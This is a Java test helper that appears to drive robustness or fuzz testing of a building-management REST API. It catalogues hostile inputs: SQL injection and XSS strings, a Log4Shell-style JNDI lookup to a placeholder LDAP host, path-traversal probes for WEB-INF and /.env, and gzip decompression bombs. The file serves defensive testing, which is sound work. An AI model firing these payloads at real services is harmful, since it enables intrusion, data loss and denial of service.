package org.koprogo.deploy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/**
 * What an attacker sends instead of what a client would: each input tagged with its class, so that findings
 * group by kind of input rather than by value.
 */
final class HostileInputs {

    /** One hostile input: its class and its text (JSON, a path segment or a query value, already encoded). */
    record Hostile(String inputClass, String value) {
    }

    /** The request body cap of the shipped configuration (KOPROGO_MAX_BODY_BYTES). */
    static final int BODY_CAP = 1 << 20;

    /** JSON values put in place of one property of an otherwise sensible body. */
    static final List<Hostile> FIELD_VALUES = List.of(
            new Hostile("wrong-type", "true"), new Hostile("wrong-type", "[]"), new Hostile("wrong-type", "{}"),
            new Hostile("wrong-type", "null"), new Hostile("wrong-type", "123"), new Hostile("wrong-type", "\"text\""),
            new Hostile("huge-number", "1e400"), new Hostile("huge-number", "-1e400"),
            new Hostile("huge-number", "9999999999999999999999"), new Hostile("huge-number", "9223372036854775808"),
            new Hostile("huge-number", "1" + "0".repeat(900)), new Hostile("huge-number", "1e2147483647"),
            new Hostile("tiny-number", "1e-400"), new Hostile("tiny-number", "-0"), new Hostile("tiny-number", "-1"),
            new Hostile("tiny-number", "0.1234567890123456789"), new Hostile("tiny-number", "0." + "0".repeat(900) + "1"),
            new Hostile("nan-text", "\"NaN\""), new Hostile("nan-text", "\"Infinity\""),
            new Hostile("nan-text", "\"1e400\""),
            new Hostile("control-char", "\"a\\u0000b\""), new Hostile("control-char", "\"fuzz@example.be\\u0000\""),
            new Hostile("control-char", "\"\\u0001\\u0007\\u001b\\u001f\""),
            new Hostile("control-char", "\"x\\u007f\\u0085\\u2028\\u2029y\""),
            new Hostile("lone-surrogate", "\"\\ud800\""), new Hostile("lone-surrogate", "\"a\\udc00b\""),
            new Hostile("lone-surrogate", "\"x@example.be\\ud83d\""),
            new Hostile("unicode", "\"\\ud83d\\ude00\""), new Hostile("unicode", "\"\\ufffe\\uffff\\ufeff\""),
            new Hostile("long-string", quoted("a".repeat(100_000))), new Hostile("long-string", quoted("İ".repeat(255))),
            new Hostile("long-string", quoted("İ".repeat(10_000))), new Hostile("long-string", quoted("x".repeat(256))),
            new Hostile("long-string", quoted(" ".repeat(300))), new Hostile("long-string", quoted("x".repeat(1001))),
            new Hostile("long-string", quoted("İ".repeat(120) + "@example.be")),
            new Hostile("date", "\"+300000-01-01T00:00:00Z\""), new Hostile("date", "\"0000-00-00\""),
            new Hostile("date", "\"-0001-01-01T00:00:00Z\""), new Hostile("date", "\"0000-01-01T00:00:00Z\""),
            new Hostile("date", "\"0001-01-01T00:00:00Z\""), new Hostile("date", "\"9999-12-31T23:59:59Z\""),
            new Hostile("date", "\"10000-01-01T00:00:00Z\""), new Hostile("date", "\"-999999999-01-01T00:00:00Z\""),
            new Hostile("date", "\"+294277-01-01T00:00:00Z\""), new Hostile("date", "\"2025-02-30T00:00:00Z\""),
            new Hostile("date", "\"2025-10-30\""), new Hostile("date", "\"2025-10-30T00:00:00+18:00\""),
            new Hostile("date", "\"4713-01-01T00:00:00-18:00\""), new Hostile("date", "-62135596800"),
            new Hostile("bad-uuid", "\"not-a-uuid\""), new Hostile("bad-uuid", "\"00000000-0000-0000-0000-000000000000\""),
            new Hostile("bad-uuid", "\"1-1-1-1-1\""), new Hostile("bad-uuid", "\"5a7e0c1e-4bd4-4e4b-9c55-0f6d1d1ee5d7\""),
            new Hostile("bad-uuid", "\"123e4567-e89b-12d3-a456-4266141740001\""),
            new Hostile("injection", "\"' OR '1'='1' --\""), new Hostile("injection", "\"%_\\\\\""),
            new Hostile("injection", "\"<script>alert(1)</script>\""), new Hostile("injection", "\"${jndi:ldap://x/a}\""));

    /** Path segments put in place of one path parameter (already percent-encoded where needed). */
    static final List<Hostile> PATH_VALUES = List.of(
            new Hostile("bad-uuid", "not-a-uuid"), new Hostile("bad-uuid", "00000000-0000-0000-0000-000000000000"),
            new Hostile("bad-uuid", "1-1-1-1-1"), new Hostile("bad-uuid", "5a7e0c1e-4bd4-4e4b-9c55-0f6d1d1ee5d7"),
            new Hostile("bad-uuid", "123e4567-e89b-12d3-a456-4266141740001"), new Hostile("bad-uuid", "-1"),
            new Hostile("bad-uuid", "1e400"), new Hostile("bad-uuid", "99999999999999999999999"),
            new Hostile("encoded-nul", "%00"), new Hostile("encoded-nul", "abc%00def"),
            new Hostile("bad-encoding", "%C3%28"), new Hostile("bad-encoding", "%ED%A0%80"),
            new Hostile("bad-encoding", "%C0%AE%C0%AE"), new Hostile("bad-encoding", "%C4%B0".repeat(300)),
            new Hostile("traversal", "..%2f..%2f"), new Hostile("traversal", "%2e%2e"), new Hostile("traversal", "x;a=b"),
            new Hostile("traversal", "%2F"), new Hostile("traversal", "%20"), new Hostile("traversal", "%0A%0D"),
            new Hostile("long-string", "a".repeat(5000)), new Hostile("injection", "'%20OR%201=1--"));

    /** Query values put in place of one query parameter. */
    static final List<Hostile> QUERY_VALUES = List.of(
            new Hostile("number", "-1"), new Hostile("number", "0"), new Hostile("number", "1e9"),
            new Hostile("number", "1000000000"), new Hostile("number", "99999999999999999999"),
            new Hostile("number", "2147483648"), new Hostile("number", "abc"), new Hostile("empty", ""),
            new Hostile("encoded-nul", "%00"), new Hostile("encoded-nul", "a%00b"),
            new Hostile("bad-encoding", "%ED%A0%80"), new Hostile("bad-encoding", "%C3%28"),
            new Hostile("date", "%2B300000-01-01T00:00:00Z"), new Hostile("date", "+300000-01-01T00:00:00Z"),
            new Hostile("date", "0000-00-00"), new Hostile("date", "-0001-01-01T00:00:00Z"),
            new Hostile("date", "0001-01-01T00:00:00Z"), new Hostile("date", "2025-02-30"),
            new Hostile("date", "10000-01-01"), new Hostile("bad-uuid", "not-a-uuid"),
            new Hostile("bad-uuid", "1-1-1-1-1"), new Hostile("bad-uuid", "5a7e0c1e-4bd4-4e4b-9c55-0f6d1d1ee5d7"),
            new Hostile("long-string", "x".repeat(5000)), new Hostile("long-string", "%C4%B0".repeat(300)),
            new Hostile("injection", "%3B%20drop%20table%20buildings%3B%20--"), new Hostile("injection", "%25_%5C"),
            new Hostile("injection", "name%20desc,(select%201)"));

    /** Whole bodies that are not JSON, or JSON no record reads. */
    static final List<Hostile> MALFORMED_BODIES = List.of(
            new Hostile("malformed-json", ""), new Hostile("malformed-json", "{"), new Hostile("malformed-json", "}"),
            new Hostile("malformed-json", "{\"a\":}"), new Hostile("malformed-json", "["),
            new Hostile("malformed-json", "nul"), new Hostile("malformed-json", "{\"a\":1,}"),
            new Hostile("malformed-json", "{'a':1}"), new Hostile("malformed-json", "{a:1}"),
            new Hostile("malformed-json", "{\"a\":1}{\"b\":2}"), new Hostile("malformed-json", "\u0000"),
            new Hostile("malformed-json", "{\"a\":\"\u0001\"}"), new Hostile("malformed-json", "/* c */{}"),
            new Hostile("malformed-json", "{\"a\":NaN}"), new Hostile("malformed-json", "{\"a\":\"\\ud800\\x\"}"),
            new Hostile("malformed-json", "\ufeff{}"), new Hostile("malformed-json", "{\"a\":\"\\u00\"}"),
            new Hostile("wrong-shape", "null"), new Hostile("wrong-shape", "123"), new Hostile("wrong-shape", "\"text\""),
            new Hostile("wrong-shape", "[]"), new Hostile("wrong-shape", "[{}]"), new Hostile("wrong-shape", "true"),
            new Hostile("wrong-shape", "{}"),
            new Hostile("deep-nesting", "[".repeat(10_000)),
            new Hostile("deep-nesting", "[".repeat(10_000) + "]".repeat(10_000)),
            new Hostile("deep-nesting", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)),
            new Hostile("huge-document", "{\"x\":[" + "1,".repeat(400_000) + "1]}"),
            new Hostile("huge-document", keys(60_000)),
            new Hostile("huge-document", "\"" + "a".repeat(BODY_CAP - 100) + "\""),
            new Hostile("huge-document", "1".repeat(BODY_CAP - 100)),
            new Hostile("over-cap", "{\"a\":\"" + "a".repeat(BODY_CAP + 1000) + "\"}"));

    /** Content types sent with a sensible JSON body. */
    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/json; charset=bogus",
            "application/json;;;", "*/*", "application/problem+json", "multipart/form-data; boundary=x", "json",
            "application/octet-stream");

    /** Accept headers sent with a sensible request. */
    static final List<String> ACCEPTS = List.of("application/xml", "text/html", "image/png;q=1, */*;q=0",
            "application/json;q=abc");

    static final List<String> ODD_METHODS = List.of("PATCH", "OPTIONS", "TRACE", "PROPFIND", "HEAD", "FUZZ");

    /** Paths no route serves, as scanners and attackers send them. */
    static final List<String> ODD_PATHS = List.of("/api/v1/..%2f", "/api/v1/..%2f..%2fopenapi", "//", "///api//v1//buildings",
            "/api/v1/buildings/%00", "/api/v1/%00", "/api/v1/buildings%00", "/api/v1/" + "a".repeat(7000),
            "/api/v1/buildings/" + "b".repeat(70_000), "/api/v1/buildings/..;/users", "/api/v1/./buildings",
            "/api/v1/buildings/.", "/api/v1/%2e%2e/%2e%2e/WEB-INF/web.xml", "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF",
            "/api/v1/buildings?%00=1", "/api/v1/nope", "/api/v2/buildings", "/api", "/", "/api/v1/%ED%A0%80",
            "/api/v1/buildings;jsessionid=x", "/health/../openapi", "/metrics/..%2f..%2f", "/api/v1/buildings/%25",
            "/api/v1/buildings?page=1&page=2&page=-1", "/api/v1/buildings?per_page=1&per_page=abc",
            "/api/v1/buildings?" + "a=1&".repeat(5000), "/api/v1/buildings?sort_by=;%20drop%20table%20buildings",
            "/api/v1/owners?search=%00&search=a", "/api/v1/buildings/%C0%AE%C0%AE/%C0%AE%C0%AE",
            "/favicon.ico", "/api/v1/buildings/?", "/api/v1/buildings/#x", "/.env", "/api/v1/BUILDINGS");

    private HostileInputs() {
    }

    static String quoted(String text) {
        return "\"" + text + "\"";
    }

    private static String keys(int count) {
        StringBuilder json = new StringBuilder("{");
        for (int i = 0; i < count; i++) {
            json.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":0");
        }
        return json.append('}').toString();
    }

    /** Gzip of the given text, as a client with {@code Content-Encoding: gzip} sends it. */
    static byte[] gzip(String text) {
        return gzip(text.getBytes(StandardCharsets.UTF_8));
    }

    static byte[] gzip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /**
     * About 19 MB once inflated, some 20 KB on the wire: a JSON object whose one string is 19 million characters
     * long (Jackson's default limit is 20 million, so the parser does not stop it), as the login attack of
     * issue 11 sent it.
     */
    static byte[] gzipBomb(String property) {
        return gzipped("{\"" + property + "\":\"", 'a', "@example.be\"}");
    }

    /** About 20 MB of whitespace before a sensible body once inflated: nothing for a parser to refuse early. */
    static byte[] whitespaceBomb(String body) {
        return gzipped("", ' ', body);
    }

    private static byte[] gzipped(String head, char filler, String tail) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(head.getBytes(StandardCharsets.UTF_8));
            byte[] chunk = String.valueOf(filler).repeat(1_000_000).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 19; i++) {
                out.write(chunk);
            }
            out.write(tail.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
